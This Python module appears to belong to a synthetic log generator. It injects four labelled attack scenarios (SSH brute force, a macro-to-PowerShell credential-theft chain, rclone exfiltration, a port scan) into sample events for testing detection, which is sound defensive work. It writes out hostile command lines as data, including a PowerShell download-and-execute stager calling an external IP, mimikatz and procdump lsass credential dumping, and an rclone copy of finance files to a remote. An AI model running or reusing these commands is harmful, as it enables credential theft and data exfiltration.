"""The four injected attack scenarios of the sample stream (see generate.SCENARIOS).

Every event written here carries ``attributes["scenario"]`` for evaluation only.
Severity and outcome follow what the logging product itself would say, exactly as
for normal events of the same kind: nothing but the content gives an attack away.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from streams.sample import _net as net
from streams.sample._normal import _ts, _utc, firewall, process_start, sysmon_net
from streams.sample._formats import powershell_enc
from streams.sample._servers import sshd

if TYPE_CHECKING:
    from streams.sample.generate import Generator, User

BRUTEFORCE_AT = 1 * 3600 + 52 * 60  # 01:52 UTC
CHAIN_AT = 2 * 3600 + 31 * 60  # 02:31
EXFIL_AT = 3 * 3600  # 03:00
SCAN_AT = 4 * 3600 + 12 * 60  # 04:12

SCAN_PORTS = (21, 22, 23, 25, 53, 80, 88, 110, 111, 135, 139, 143, 161, 389, 443, 445, 465, 587, 636, 993,
              995, 1433, 1521, 2049, 2375, 3306, 3389, 5432, 5900, 5985, 5986, 6379, 8000, 8080, 8443, 9000,
              9200, 11211, 27017, 50070)
STAGER = "IEX (New-Object Net.WebClient).DownloadString('http://91.215.85.17/a.ps1'); Invoke-Stage -Mode lsass"


def _user(users: list[User], name: str) -> User:
    return next(u for u in users if u.name == name)


def ssh_bruteforce(gen: Generator, t: float) -> None:
    """~60 failed passwords from one external IP on bastion-01, then root gets in."""
    rng, ip, host, tag = gen.rng, net.ATTACKER_SSH, "bastion-01", "ssh_bruteforce"
    names = ("root",) * 6 + ("admin", "admin", "oracle", "oracle", "test", "ubuntu", "postgres")
    sport = rng.randint(33000, 34000)
    for _ in range(60):
        t += rng.uniform(1.2, 4.5)
        pid, sport = gen.pid(), sport + rng.randint(2, 40)
        name = rng.choice(names)
        if name != "root":
            sshd(gen, t, host, pid, f"Invalid user {name} from {ip} port {sport}", user=name, src=ip, sport=sport,
                 outcome="failure", severity="low", scenario=tag)
            text = f"Failed password for invalid user {name} from {ip} port {sport} ssh2"
        else:
            text = f"Failed password for root from {ip} port {sport} ssh2"
        sshd(gen, t + rng.uniform(1.8, 2.6), host, pid, text, user=name, src=ip, sport=sport, outcome="failure",
             severity="low", scenario=tag)
    t += rng.uniform(4, 9)
    pid, sport = gen.pid(), sport + 7
    sshd(gen, t, host, pid, f"Accepted password for root from {ip} port {sport} ssh2", user="root", src=ip,
         sport=sport, scenario=tag)
    sshd(gen, t + 0.02, host, pid, "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)",
         user="root", src=ip, sport=sport, event_type="session_start", scenario=tag)


def _file_created(gen: Generator, t: float, u: User, app: str, pid: int, image: str, target: str,
                  tag: str) -> None:
    text = net.sysmon_11(_utc(t), u.host, f"{net.DOMAIN}\\{u.name}", pid, image, target, t)
    gen.add(t, {"message": net.sysmon_msg(_ts(t), u.host, 11, text), "source": "sysmon",
                "event_type": "file_access", "severity": "informational", "outcome": "success", "host": u.host,
                "user": u.name, "process": app, "attributes": {"event_code": 11}}, tag)


def _lsass_access(gen: Generator, t: float, u: User, app: str, pid: int, image: str, access: str,
                  tag: str) -> None:
    text = net.sysmon_10(_utc(t), u.host, f"{net.DOMAIN}\\{u.name}", pid, image, 788, access, t)
    gen.add(t, {"message": net.sysmon_msg(_ts(t), u.host, 10, text), "source": "sysmon",
                "event_type": "process_access", "severity": "informational", "outcome": "success",
                "host": u.host, "user": u.name, "process": app,
                "attributes": {"event_code": 10, "target_process": "lsass.exe"}}, tag)


def malicious_process_chain(gen: Generator, t: float, u: User) -> None:
    """Macro document -> encoded PowerShell stager -> mimikatz and procdump on lsass."""
    tag = "malicious_process_chain"
    lid = gen.logon_id(u)
    cache = rf"C:\Users\{u.name}\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\K3J9Q2ZB"
    doc = rf"{cache}\Invoice_0311.docm"
    outlook_pid = gen.procs.get((u.host, "outlook.exe"), 7000)
    _file_created(gen, t, u, "outlook.exe", outlook_pid, net.IMAGES["outlook.exe"], doc, tag)
    word = net.IMAGES["winword.exe"]
    process_start(gen, t + 6.2, u.host, u.name, lid, "winword.exe", "outlook.exe",
                  f'"{word}" /n "{doc}" /o ""', scenario=tag)
    ps = net.IMAGES["powershell.exe"]
    ps_pid = process_start(gen, t + 14.7, u.host, u.name, lid, "powershell.exe", "winword.exe",
                           f"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -enc {powershell_enc(STAGER)}",
                           scenario=tag)
    sport = gen.port()
    sysmon_net(gen, t + 15.3, u.host, u.ip, u.name, f"{net.DOMAIN}\\{u.name}", "powershell.exe", ps_pid,
               net.ATTACKER_STAGING, "-", 80, sport, scenario=tag)
    firewall(gen, t + 17.9, src=u.ip, dst=net.ATTACKER_STAGING, dport=80, sent=1412, rcvd=1_348_221,
             duration_s=2.6, user=u.name, sport=sport, scenario=tag)
    for i, name in enumerate(("mimikatz.exe", "procdump.exe")):
        _file_created(gen, t + 19.0 + i, u, "powershell.exe", ps_pid, ps, rf"C:\Users\Public\{name}", tag)
    mimi = r"C:\Users\Public\mimikatz.exe"
    mimi_pid = process_start(gen, t + 41.0, u.host, u.name, lid, "mimikatz.exe", "powershell.exe",
                             f'{mimi} "privilege::debug" "sekurlsa::logonpasswords" "exit"', image=mimi,
                             scenario=tag)
    _lsass_access(gen, t + 41.6, u, "mimikatz.exe", mimi_pid, mimi, "0x1010", tag)
    pd = r"C:\Users\Public\procdump.exe"
    pd_pid = process_start(gen, t + 77.0, u.host, u.name, lid, "procdump.exe", "powershell.exe",
                           rf"{pd} -accepteula -ma lsass.exe C:\Users\Public\lsass.dmp", image=pd, scenario=tag)
    _lsass_access(gen, t + 77.5, u, "procdump.exe", pd_pid, pd, "0x1FFFFF", tag)
    _file_created(gen, t + 80.2, u, "procdump.exe", pd_pid, pd, r"C:\Users\Public\lsass.dmp", tag)


def data_exfiltration(gen: Generator, t: float, u: User) -> None:
    """rclone uploads ~900 MB at night to an external IP never contacted before."""
    tag = "data_exfiltration"
    image = r"C:\ProgramData\rclone\rclone.exe"
    pid = process_start(gen, t, u.host, u.name, gen.logon_id(u), "rclone.exe", "cmd.exe",
                        rf'{image} copy "C:\Users\{u.name}\Documents\Finance" remote:bkp --transfers 8 '
                        "--no-check-certificate --multi-thread-streams 4", image=image, scenario=tag)
    flows = ((3.1, 8443, 412_337_152, 842.0), (5.4, 4444, 287_114_880, 655.0), (851.0, 8443, 198_520_832, 410.0))
    for offset, port, sent, dur in flows:
        sport = gen.port()
        sysmon_net(gen, t + offset, u.host, u.ip, u.name, f"{net.DOMAIN}\\{u.name}", "rclone.exe", pid,
                   net.EXFIL_DST, "-", port, sport, scenario=tag)
        firewall(gen, t + offset + dur, src=u.ip, dst=net.EXFIL_DST, dport=port, sent=sent,
                 rcvd=sent // 180, duration_s=dur, user=u.name, sport=sport, scenario=tag)


def port_scan(gen: Generator, t: float, u: User) -> None:
    """One workstation probes 40 TCP ports, each on 3 of 16 server-subnet hosts, in ~20 seconds."""
    rng = gen.rng
    targets = [ip for ip, _ in net.SERVERS.values()] + ["10.10.0.2", "10.10.0.3", "10.10.0.15", "10.10.0.70"]
    sport = rng.randint(40000, 60000)
    for port in SCAN_PORTS:
        for dst in rng.sample(targets, 3):
            t += rng.uniform(0.05, 0.25)
            firewall(gen, t, src=u.ip, dst=dst, dport=port, sent=44, rcvd=0, duration_s=0, action="deny",
                     user=u.name, sport=sport, scenario="port_scan")


def inject_all(gen: Generator, users: list[User]) -> None:
    """All four scenarios at their fixed times (after the baseline period)."""
    ssh_bruteforce(gen, BRUTEFORCE_AT + gen.rng.uniform(0, 20))
    malicious_process_chain(gen, CHAIN_AT + gen.rng.uniform(0, 20), _user(users, "srahman"))
    data_exfiltration(gen, EXFIL_AT + gen.rng.uniform(2, 6), _user(users, "fweber"))
    port_scan(gen, SCAN_AT + gen.rng.uniform(0, 20), _user(users, "tnguyen"))
